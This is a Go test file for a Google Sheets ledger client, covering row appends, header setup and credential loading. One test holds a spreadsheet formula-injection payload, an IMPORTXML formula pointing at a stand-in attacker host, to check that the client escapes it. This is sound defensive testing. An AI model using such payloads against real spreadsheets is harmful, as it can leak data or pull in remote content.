package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"fintrack/internal/core"
	ports "fintrack/internal/sheets"
)

type fakeSheets struct {
	mu       sync.Mutex
	header   [][]any
	appended [][]any
	updated  [][]any
	calls    []string
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls = append(f.calls, r.Method+" "+r.URL.Path)

	var body struct {
		Values [][]any `json:"values"`
	}
	if r.Body != nil {
		b, _ := io.ReadAll(r.Body)
		if len(b) > 0 {
			_ = json.Unmarshal(b, &body)
		}
	}

	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(r.URL.Path, ":append"):
		f.appended = append(f.appended, body.Values...)
		_ = json.NewEncoder(w).Encode(map[string]any{
			"updates": map[string]any{"updatedRange": "Ledger!A2:I2"},
		})
	case r.Method == http.MethodGet:
		_ = json.NewEncoder(w).Encode(map[string]any{"range": "Ledger!A1:I1", "values": f.header})
	case r.Method == http.MethodPut:
		f.updated = append(f.updated, body.Values...)
		_ = json.NewEncoder(w).Encode(map[string]any{"updatedRange": "Ledger!A1:I1"})
	default:
		http.Error(w, "unexpected call", http.StatusBadRequest)
	}
}

func newTestClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)
	c, err := NewWithEndpoint(context.Background(), srv.URL+"/", "sheet-id", "Ledger")
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestAppendEntry(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	ref, err := c.AppendEntry(context.Background(), ports.LedgerEntry{
		Timestamp: time.Date(2023, 6, 12, 9, 30, 0, 0, time.UTC),
		Action:    "created",
		Kind:      "expense",
		ID:        7,
		UserID:    3,
		Name:      "Grocery Store",
		Label:     "Food & Dining",
		Amount:    core.Money{Cents: 5642},
		HasAmount: true,
		Date:      core.NewDate(2023, 6, 12),
	})
	if err != nil {
		t.Fatal(err)
	}
	if ref != "Ledger!A2:I2" {
		t.Errorf("ref = %q", ref)
	}
	if len(fake.appended) != 1 {
		t.Fatalf("expected one appended row, got %d", len(fake.appended))
	}
	row := fake.appended[0]
	want := []any{"2023-06-12T09:30:00Z", "created", "expense", "7", "3", "Grocery Store", "Food & Dining", "56.42", "2023-06-12"}
	for i := range want {
		if row[i] != want[i] {
			t.Errorf("column %d = %v, want %v", i, row[i], want[i])
		}
	}
}

func TestAppendEntryQuotesFormulas(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	if _, err := c.AppendEntry(context.Background(), ports.LedgerEntry{
		Timestamp: time.Date(2023, 6, 12, 9, 30, 0, 0, time.UTC),
		Action:    "created",
		Kind:      "income",
		ID:        8,
		UserID:    3,
		Name:      "=IMPORTXML(\"http://evil.example\",\"//a\")",
		Label:     "+Employer",
		Amount:    core.Money{Cents: 100},
		HasAmount: true,
		Date:      core.NewDate(2023, 6, 12),
	}); err != nil {
		t.Fatal(err)
	}
	row := fake.appended[0]
	if row[5] != "'=IMPORTXML(\"http://evil.example\",\"//a\")" || row[6] != "'+Employer" {
		t.Errorf("row = %v", row)
	}
}

func TestEnsureHeader(t *testing.T) {
	t.Run("writes header on empty sheet", func(t *testing.T) {
		fake := &fakeSheets{}
		c := newTestClient(t, fake)
		if err := c.EnsureHeader(context.Background()); err != nil {
			t.Fatal(err)
		}
		if len(fake.updated) != 1 || fake.updated[0][0] != "Timestamp" {
			t.Fatalf("header not written: %v", fake.updated)
		}
	})

	t.Run("leaves existing header alone", func(t *testing.T) {
		fake := &fakeSheets{header: [][]any{{"Timestamp"}}}
		c := newTestClient(t, fake)
		if err := c.EnsureHeader(context.Background()); err != nil {
			t.Fatal(err)
		}
		if len(fake.updated) != 0 {
			t.Fatalf("header rewritten: %v", fake.updated)
		}
	})
}

func TestNewRequiresSpreadsheetAndCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")

	if _, err := New(context.Background(), Config{}); err == nil {
		t.Error("expected error for missing spreadsheet id")
	}
	_, err := New(context.Background(), Config{SpreadsheetID: "x"})
	if err == nil || !strings.Contains(err.Error(), "missing service account credentials") {
		t.Errorf("expected missing credentials error, got %v", err)
	}
}

func TestCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
	path := filepath.Join(t.TempDir(), "sa.json")
	if err := os.WriteFile(path, []byte(`{"type":"service_account"}`), 0o600); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name string
		cfg  Config
		want string
		err  bool
	}{
		{"inline wins", Config{CredentialsJSON: `{"inline":true}`, CredentialsFile: path}, `{"inline":true}`, false},
		{"file", Config{CredentialsFile: path}, `{"type":"service_account"}`, false},
		{"missing file", Config{CredentialsFile: path + ".nope"}, "", true},
		{"none", Config{}, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := credentials(tt.cfg)
			if (err != nil) != tt.err {
				t.Fatalf("err = %v", err)
			}
			if string(got) != tt.want {
				t.Errorf("credentials = %s, want %s", got, tt.want)
			}
		})
	}
}
